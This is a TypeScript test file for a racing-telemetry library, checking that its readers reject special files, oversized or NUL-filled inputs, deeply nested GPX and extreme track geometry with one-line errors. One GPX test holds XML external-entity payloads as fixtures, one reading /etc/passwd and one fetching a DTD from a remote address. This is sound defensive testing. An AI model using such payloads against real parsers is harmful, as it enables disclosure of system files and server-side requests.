// Hostile files through the library's readers, in process: special files (a FIFO, /dev/zero, a folder), files
// over their kind's size limit, GPX that is not plain, NUL bytes, a runaway clothoid. Each ends in an
// InputError naming the file, within a few seconds, without reading what it must not read.

import { describe, expect, it, beforeAll, afterAll } from 'vitest';
import { execFileSync } from 'node:child_process';
import { closeSync, mkdtempSync, openSync, rmSync, writeFileSync, ftruncateSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { readCarFile } from '../../src/io/read-car.js';
import { readTrackFile, parseTrackText } from '../../src/io/read-track.js';
import { readEnvelopeFile } from '../../src/io/read-envelope.js';
import { readTelemetryFile, parseTelemetryText } from '../../src/io/telemetry/read-telemetry.js';
import { INPUT_LIMIT_BYTES } from '../../src/io/input-file.js';
import { checkFiles } from '../../src/check/check-files.js';
import { InputError } from '../../src/errors.js';

/** CPU seconds this process has spent since `started` (user and system: reading a file counts). The limits below
 * are CPU time, not wall time, so a loaded machine does not fail them while a refusal that reads or integrates
 * too much still does. */
function cpuSecondsSince(started: NodeJS.CpuUsage): number {
  const spent = process.cpuUsage(started);
  return (spent.user + spent.system) / 1e6;
}

let folder: string;
let fifo: string | null = null;

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'reflap-hostile-'));
  try {
    fifo = join(folder, 'pipe.csv');
    execFileSync('mkfifo', [fifo]);
  } catch {
    fifo = null;
  }
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** A file of `bytes` that takes no disk space (a sparse file): `start`, then NUL bytes. */
function sparseFile(name: string, bytes: number, start = ''): string {
  const file = join(folder, name);
  writeFileSync(file, start);
  const descriptor = openSync(file, 'r+');
  ftruncateSync(descriptor, bytes);
  closeSync(descriptor);
  return file;
}

async function inputErrorOf(run: () => unknown): Promise<string> {
  try {
    await run();
  } catch (error) {
    expect(error).toBeInstanceOf(InputError);
    const message = (error as Error).message;
    expect(message.split('\n')).toHaveLength(1);
    return message;
  }
  throw new Error('expected an InputError, got a result');
}

describe('special files are refused before they are opened', () => {
  const readers: [string, (file: string) => unknown][] = [
    ['car', (file) => readCarFile(file)],
    ['track', (file) => readTrackFile(file)],
    ['envelope', (file) => readEnvelopeFile(file)],
    ['telemetry', (file) => readTelemetryFile(file, { columns: {} })],
  ];
  for (const [kind, read] of readers) {
    it(`${kind}: a FIFO with no writer, /dev/zero and a folder`, async () => {
      if (fifo === null) {
        console.warn('mkfifo is not available here: the FIFO case is skipped');
      } else {
        expect(await inputErrorOf(() => read(fifo!))).toBe(
          `${fifo}: cannot read the ${kind === 'telemetry' ? 'telemetry' : kind} file (is a pipe (FIFO), not a regular file)`,
        );
      }
      expect(await inputErrorOf(() => read('/dev/zero'))).toMatch(
        /^\/dev\/zero: cannot read the .* \(is a device, not a regular file\)$/,
      );
      expect(await inputErrorOf(() => read(folder))).toMatch(/: cannot read the .* \(is a folder\)$/);
    });
  }

  it('check lists a FIFO and /dev/zero as problems of those files and goes on', async () => {
    const special = fifo === null ? ['/dev/zero'] : [fifo, '/dev/zero'];
    const report = await checkFiles(special);
    expect(report.ok).toBe(false);
    for (const check of report.files) expect(check.problems[0]).toMatch(/not a regular file\)$/);
  });
});

describe('size limits per kind, checked before reading', () => {
  it('a 2 GiB car or track is refused at once (sparse files: nothing is read)', async () => {
    const huge = sparseFile('huge.json', 2 * 1024 ** 3);
    const started = process.cpuUsage();
    expect(await inputErrorOf(() => readCarFile(huge))).toBe(
      `${huge}: the car file is 2048 MiB, over the 1.0 MiB a car file may have`,
    );
    expect(await inputErrorOf(() => readTrackFile(huge))).toBe(
      `${huge}: the track file is 2048 MiB, over the 64 MiB a track file may have`,
    );
    expect(cpuSecondsSince(started)).toBeLessThan(1);
  });

  it('one byte over the car limit is refused, the limit itself is read', async () => {
    const over = sparseFile('over.json', INPUT_LIMIT_BYTES.car + 1);
    expect(await inputErrorOf(() => readCarFile(over))).toContain('over the 1.0 MiB a car file may have');
    const at = sparseFile('at.json', INPUT_LIMIT_BYTES.car);
    // Read, and refused for what it holds (NUL bytes are not JSON), not for its size.
    expect(await inputErrorOf(() => readCarFile(at))).not.toContain('may have');
  });

  it('a GPS log over its limit is refused once its head shows it is GPX', async () => {
    const gpx = sparseFile(
      'big.gpx',
      INPUT_LIMIT_BYTES.gpsLog + 1,
      `<?xml version="1.0"?>\n<gpx version="1.1">${' '.repeat(70000)}`,
    );
    expect(await inputErrorOf(() => readTelemetryFile(gpx, { columns: {} }))).toContain(
      'over the 256 MiB a GPS log may have',
    );
  });

  it('2 GiB of NUL bytes as telemetry: refused from the first bytes, nothing more read', async () => {
    const zeros = sparseFile('zeros.csv', 2 * 1024 ** 3);
    const started = process.cpuUsage();
    expect(await inputErrorOf(() => readTelemetryFile(zeros, { columns: {} }))).toBe(
      `${zeros}: byte 1 is a NUL byte: binary data, not a text log`,
    );
    expect(cpuSecondsSince(started)).toBeLessThan(1);
  });
});

describe('UTF-16 logs', () => {
  it('check reads a UTF-16 LE log (byte order mark first) as the session reader does', async () => {
    const rows = Array.from({ length: 50 }, (_, i) => `${(i * 0.1).toFixed(1)},${100 + i}`);
    const text = `time_s,speed_kph\n${rows.join('\n')}\n`;
    const file = join(folder, 'utf16.csv');
    writeFileSync(file, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]));
    const session = await readTelemetryFile(file, { columns: {} });
    expect(session.count).toBe(50);
    const report = await checkFiles([file]);
    expect(report.files[0]!.problems).toEqual([]);
    expect(report.files[0]!.summary).toBe('telemetry CSV: 50 samples over 4.9 s');
  });
});

describe('GPX that is not plain', () => {
  const header = '<?xml version="1.0"?>\n';
  const body =
    '<gpx version="1.1"><trk><trkseg><trkpt lat="1" lon="2"><time>2026-01-01T00:00:00Z</time></trkpt></trkseg></trk></gpx>';
  it('a DOCTYPE with an external entity, a parameter entity or a large internal one is refused with one line', async () => {
    const doctypes = [
      '<!DOCTYPE gpx [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',
      '<!DOCTYPE gpx [<!ENTITY % remote SYSTEM "http://203.0.113.1/x.dtd"> %remote;]>',
      `<!DOCTYPE gpx [<!ENTITY big "${'x'.repeat(100000)}">]>`,
      '<!doctype gpx>',
    ];
    for (const doctype of doctypes) {
      const message = await inputErrorOf(() => parseTelemetryText(header + doctype + body, 'log.gpx', { columns: {} }));
      expect(message).toBe('log.gpx: not a plain GPX file (it declares a DOCTYPE; GPX needs none)');
    }
  });

  it('nesting 10,000 elements deep is one line, not a stack trace', async () => {
    const deep = `${header}<gpx>${'<a>'.repeat(10000)}${'</a>'.repeat(10000)}</gpx>`;
    const message = await inputErrorOf(() => parseTelemetryText(deep, 'deep.gpx', { columns: {} }));
    expect(message).toMatch(/^deep\.gpx: /);
  });
});

describe('segment tracks: the clothoid integration is bounded', () => {
  const track = (segments: unknown[]) => JSON.stringify({ name: 'x', closed: false, widthM: 10, segments });
  it('a transition to a curvature of 1e300 or 1e6 over 10 m is refused at once, naming the field', async () => {
    for (const endCurvature of [1e300, 1e6, -2]) {
      const started = process.cpuUsage();
      const message = await inputErrorOf(() =>
        parseTrackText(track([{ kind: 'transition', lengthM: 10, startCurvature: 0, endCurvature }]), 't.json', {}),
      );
      expect(message).toContain('t.json: segments[0].endCurvature: ');
      expect(message).toContain('outside -1 to 1 1/m');
      expect(cpuSecondsSince(started)).toBeLessThan(1);
    }
  });

  it('an arc of radius 0.01 m and a track of 1e9 m are refused', async () => {
    expect(
      await inputErrorOf(() => parseTrackText(track([{ kind: 'arc', radiusM: 0.01, angleDeg: 90 }]), 't.json', {})),
    ).toContain('segments[0].radiusM: 0.01 m is tighter than any car turns');
    expect(
      await inputErrorOf(() =>
        parseTrackText(track([{ kind: 'transition', lengthM: 1e9, startCurvature: 0, endCurvature: 1 }]), 't.json', {}),
      ),
    ).toContain('over the 200 km a segment track may have');
  });

  it('the tightest allowed transition over the longest allowed track still ends in seconds', () => {
    // 200 km of curvature 1/m is the worst the limits admit: the integration's cost is bounded by them.
    const started = process.cpuUsage();
    expect(() =>
      parseTrackText(track([{ kind: 'transition', lengthM: 199_000, startCurvature: 1, endCurvature: 1 }]), 't.json', {
        stepM: 200,
      }),
    ).not.toThrow();
    expect(cpuSecondsSince(started)).toBeLessThan(10);
  });
});

describe('folders', () => {
  it('a folder named like a log is refused by the telemetry reader', async () => {
    const named = join(folder, 'session.csv');
    mkdirSync(named);
    expect(await inputErrorOf(() => readTelemetryFile(named, { columns: {} }))).toBe(
      `${named}: cannot read the telemetry file (is a folder)`,
    );
  });
});

// A zero-length file passes the guards and is refused by the reader for what it is.
describe('an empty file', () => {
  it('is refused for being empty', async () => {
    const empty = join(folder, 'empty.csv');
    writeFileSync(empty, '');
    expect(await inputErrorOf(() => readTelemetryFile(empty, { columns: {} }))).toBe(`${empty}: empty file`);
  });
});

describe('a separator inside a quoted header cell', () => {
  it('is text: the file stays comma-separated', () => {
    const text = 'time_s,"speed; km/h"\n0,100\n0.1,101\n0.2,102\n';
    const session = parseTelemetryText(text, 'quoted.csv', { columns: { speed_kph: 'speed; km/h' } });
    expect(session.count).toBe(3);
    // 101 km/h is 101 / 3.6 m/s (SI definition of the km/h).
    expect(session.speedMps![1]).toBeCloseTo(101 / 3.6, 12);
  });
});
